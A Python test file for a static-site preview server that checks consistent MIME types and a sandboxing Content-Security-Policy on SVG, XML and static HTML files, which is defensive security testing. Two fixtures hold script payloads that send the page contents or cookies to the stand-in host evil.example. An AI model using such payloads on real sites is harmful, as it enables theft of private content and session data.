"""Round sixty-nine of attacks: files, signals and sockets — what the preview says a file is.

1. The preview's Content-Type came from `mimetypes.guess_type`, which reads the machine's own tables (/etc/mime.types,
   and on Windows the registry, where an installed editor often maps `.js` to `text/plain`): with the preview's
   `X-Content-Type-Options: nosniff`, a browser then refused the site's scripts and styles. The type is now Python's
   own table's, the same on every machine (explainer/served_types.py).
2. An SVG, an XML file or an XHTML page of static/ (a chart taken from another site, a logo sent in) ran its scripts
   when opened in a tab, in the preview's origin, where they could read every unpublished briefing and the error
   page's excerpts of the project's files. Such a document is now served with `Content-Security-Policy: sandbox`, and
   an HTML page of static/ (no page the build made) with `sandbox allow-scripts`: its scripts run, in an origin of
   their own. Honest twins: the site's pages (a briefing's too), styles, scripts, JSON, CSV, a PNG and a PDF are
   served as before, unsandboxed.

The server here runs in this process (serve.make_app over a folder standing for site/), so the machine's table can be
made a Windows registry's.
"""

from __future__ import annotations

import asyncio
import mimetypes
import threading
import urllib.error
import urllib.request
from pathlib import Path
from types import SimpleNamespace

import pytest
from tornado.httpserver import HTTPServer
from tornado.ioloop import IOLoop

from explainer import serve, served_types

HOSTILE_SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
               b'<script>fetch("/").then(r => r.text()).then(t => location = "https://evil.example/?" + t)</script>'
               b'</svg>')
HOSTILE_XML = (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
               b'<script>location = "https://evil.example/?" + document.cookie</script></body></html>')


@pytest.fixture
def site(tmp_path: Path):
    """Serve a folder standing for site/ from a tornado server of this process; yield its address, the folder and
    the server's Preview."""
    out = tmp_path / "site"
    (out / "static").mkdir(parents=True)
    (out / "index.html").write_bytes(b"<!doctype html><html><head><title>x</title></head><body>home</body></html>")
    files = {"style.css": b"body{}", "preview.js": b"void 0;", "moved.mjs": b"export {};", "chart.svg": HOSTILE_SVG,
             "map.xml": HOSTILE_XML, "page.xhtml": HOSTILE_XML, "logo.png": b"\x89PNG\r\n\x1a\n",
             "report.pdf": b"%PDF-1.4",
             "font.woff2": b"wOF2", "notes.txt": b"notes", "data.json": b"{}", "rows.csv": b"a,b\n",
             "embed.html": b"<!doctype html><title>map</title><script>fetch('/')</script>"}
    for name, data in files.items():
        (out / "static" / name).write_bytes(data)
    (out / "flood").mkdir()
    (out / "flood" / "index.html").write_bytes(b"<!doctype html><html><head></head><body>flood</body></html>")
    preview = serve.Preview(SimpleNamespace(root=tmp_path, out=out))
    started, loop_box = threading.Event(), {}

    def run() -> None:
        asyncio.set_event_loop(asyncio.new_event_loop())
        server = HTTPServer(serve.make_app(preview, "127.0.0.1", 0))
        sockets = serve.netutil.bind_sockets(0, "127.0.0.1")
        server.add_sockets(sockets)
        loop_box.update(loop=IOLoop.current(), server=server, port=sockets[0].getsockname()[1])
        started.set()
        IOLoop.current().start()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    assert started.wait(10)
    yield f"http://127.0.0.1:{loop_box['port']}", out, preview
    loop_box["loop"].add_callback(loop_box["server"].stop)
    loop_box["loop"].add_callback(loop_box["loop"].stop)
    thread.join(10)


def headers_of(url: str, method: str = "GET") -> dict[str, str]:
    """Return the headers (names in lower case) of the preview's answer to `method` of `url`."""
    request = urllib.request.Request(url, method=method, headers={"Host": "127.0.0.1"})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return {name.lower(): value for name, value in response.headers.items()}
    except urllib.error.HTTPError as error:
        return {"status": str(error.code), **{name.lower(): value for name, value in error.headers.items()}}


def _a_registry_of(monkeypatch, kinds: dict[str, str]) -> None:
    """Make the machine's table (the one `mimetypes.init` reads from /etc/mime.types or the Windows registry) say
    `kinds` (suffix: type), as a registry an editor rewrote does."""
    mimetypes.guess_type("x.txt")  # the machine's table read, as any first use reads it
    machine = mimetypes.MimeTypes()
    for suffix, kind in kinds.items():
        machine.add_type(kind, suffix)
    monkeypatch.setattr(mimetypes, "_db", machine)
    assert mimetypes.guess_type("a.js")[0] == kinds.get(".js", mimetypes.guess_type("a.js")[0])


# --- 1. fixed: the preview's types are the same on every machine -----------------------------------------------------

@pytest.mark.parametrize("name, served", [("preview.js", "text/javascript"), ("moved.mjs", "text/javascript"),
                                          ("style.css", "text/css"), ("notes.txt", "text/plain")])
def test_a_machine_whose_table_is_another_changes_no_type_the_preview_serves(site, monkeypatch, name: str, served: str):
    """Before: `.js` served as text/plain, which with nosniff a browser refuses to run (and `.css` to apply), and a
    `.txt` as text/html, which it renders, where the machine's table (a Windows registry) said so."""
    url, _, _ = site
    _a_registry_of(monkeypatch, {".js": "text/plain", ".mjs": "text/plain", ".css": "application/x-css",
                                 ".txt": "text/html"})
    headers = headers_of(f"{url}/static/{name}")
    assert headers["content-type"] == served
    assert headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize("name, kind", [
    ("a.js", "text/javascript"), ("a.CSS", "text/css"), ("a.svg", "image/svg+xml"), ("a.woff2", "font/woff2"),
    ("a.webp", "image/webp"), ("a.json", "application/json"), ("a.csv", "text/csv"), ("a.html", "text/html"),
    ("a", "application/octet-stream"), (".nojekyll", "application/octet-stream"),
    ("a.svg.gz", "application/octet-stream")])
def test_each_kind_a_site_holds_has_its_type(name: str, kind: str):
    assert served_types.served_type(name) == kind


# --- 2. fixed: a document a browser would run is served sandboxed ----------------------------------------------------

@pytest.mark.parametrize("name", ["chart.svg", "map.xml", "page.xhtml"])
def test_a_document_that_would_run_its_scripts_is_sandboxed(site, name: str):
    """Before: served with no policy of its own, so opened in a tab its script ran in the preview's origin and could
    read `/` (every draft) and send it away."""
    url, _, _ = site
    for method in ("GET", "HEAD"):
        headers = headers_of(f"{url}/static/{name}", method)
        assert headers["content-security-policy"] == "sandbox", (method, headers)
        assert headers["x-content-type-options"] == "nosniff"


def test_a_large_svg_sent_in_pieces_is_sandboxed_too(site):
    url, out, _ = site
    (out / "static" / "big.svg").write_bytes(HOSTILE_SVG[:-6] + b" " * (serve.STREAMED_FROM_BYTES + 10) + b"</svg>")
    headers = headers_of(f"{url}/static/big.svg")
    assert headers["content-security-policy"] == "sandbox"
    assert headers["content-type"] == "image/svg+xml"


def test_an_html_page_of_static_keeps_its_scripts_in_an_origin_of_its_own(site):
    """Before: an HTML page of static/ (a map exported from another tool), no page the build made with the site's
    Content-Security-Policy, ran its scripts in the preview's origin."""
    url, _, _ = site
    assert headers_of(f"{url}/static/embed.html")["content-security-policy"] == "sandbox allow-scripts"


@pytest.mark.parametrize("path, kind", [("/", "text/html"), ("/index.html", "text/html"), ("/flood/", "text/html"),
                                        ("/flood/index.html", "text/html"),
                                        ("/static/style.css", "text/css"), ("/static/preview.js", "text/javascript"),
                                        ("/static/logo.png", "image/png"), ("/static/report.pdf", "application/pdf"),
                                        ("/static/font.woff2", "font/woff2"), ("/static/data.json", "application/json"),
                                        ("/static/rows.csv", "text/csv")])
def test_the_sites_pages_and_files_are_served_unsandboxed(site, path: str, kind: str):
    """A page keeps its own scripts (its Content-Security-Policy is the template's), and a PDF its viewer, which a
    sandbox would block."""
    url, _, _ = site
    headers = headers_of(url + path)
    assert headers["content-type"] == kind
    assert "content-security-policy" not in headers


def test_a_missing_svg_is_a_plain_404(site):
    url, _, _ = site
    headers = headers_of(f"{url}/static/gone.svg")
    assert headers["status"] == "404"


def test_only_the_xml_family_runs_as_a_document():
    assert all(served_types.runs_as_document(kind) for kind in (
        "image/svg+xml", "application/xml", "text/xml", "application/xhtml+xml", "application/atom+xml",
        "application/rss+xml; charset=utf-8"))
    assert not any(served_types.runs_as_document(kind) for kind in (
        "text/html", "text/css", "text/javascript", "application/json", "application/pdf", "image/png",
        "application/octet-stream", "text/plain"))


# --- 3. fixed: the preview's own pages carry a Content-Security-Policy -----------------------------------------------

ERROR_PAGE = (b"<!doctype html><html><head><style>pre{}</style></head><body><pre>content/flood/briefing.yaml:3: "
              b"&lt;script&gt;</pre></body></html>")


def _policy_of_own_pages(headers: dict[str, str]) -> None:
    """Assert the preview's own page allows no inline script nor any other site's, yet its live-reload client (the
    preview's own files) and its inline style."""
    directives = dict(part.strip().split(" ", 1) for part in headers["content-security-policy"].split(";"))
    assert directives["default-src"] == "'none'" and directives["script-src"] == "'self'"
    assert directives["style-src"] == "'unsafe-inline'" and directives["form-action"] == "'none'"
    assert "frame-ancestors" not in directives  # an editor's preview pane frames it


def test_the_error_page_carries_a_policy(site):
    """Before: the error page, which shows excerpts of the project's files (a content file from another's pull
    request), carried none: a missed escape in it would have run in the preview's origin."""
    url, _, preview = site
    preview.error_page = ERROR_PAGE  # as Preview.show sets it from a failed build's outcome
    headers = headers_of(f"{url}/")
    assert headers["status"] == "500"
    _policy_of_own_pages(headers)
    assert "content-security-policy" not in headers_of(f"{url}/static/style.css")  # a file of the site: as before


def test_the_missing_page_carries_a_policy(site):
    """Before: the page for an address the site has no page at, which shows that address (any link's), carried none."""
    url, _, _ = site
    headers = headers_of(f"{url}/gone/%3Cscript%3E")
    assert headers["status"] == "404"
    _policy_of_own_pages(headers)
    assert headers["content-type"] == "text/html; charset=utf-8"
